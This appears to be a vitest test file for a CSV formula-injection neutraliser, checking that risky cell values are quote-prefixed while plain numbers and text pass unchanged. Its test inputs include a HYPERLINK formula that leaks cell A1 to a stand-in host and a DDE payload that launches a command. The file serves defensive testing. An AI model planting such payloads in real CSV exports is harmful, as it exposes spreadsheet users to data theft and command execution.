import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { neutraliseFormula, SAFE_CSV_CAST } from "./csv-cells";

describe("neutraliseFormula", () => {
  it.each([
    ['=HYPERLINK("http://example.com/?x="&A1,"click")', `'=HYPERLINK("http://example.com/?x="&A1,"click")`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["-12.5", "-12.5"],
    ["+3", "+3"],
    ["-1e3", "-1e3"],
    ["Dealer 1", "Dealer 1"],
    ["", ""],
  ])("%j → %j", (given, want) => {
    expect(neutraliseFormula(given)).toBe(want);
  });

  it("leaves number values as they are in a written CSV", () => {
    expect(stringify([[-3, "=1+1", "-4"]], { cast: SAFE_CSV_CAST })).toBe("-3,'=1+1,-4\n");
  });
});
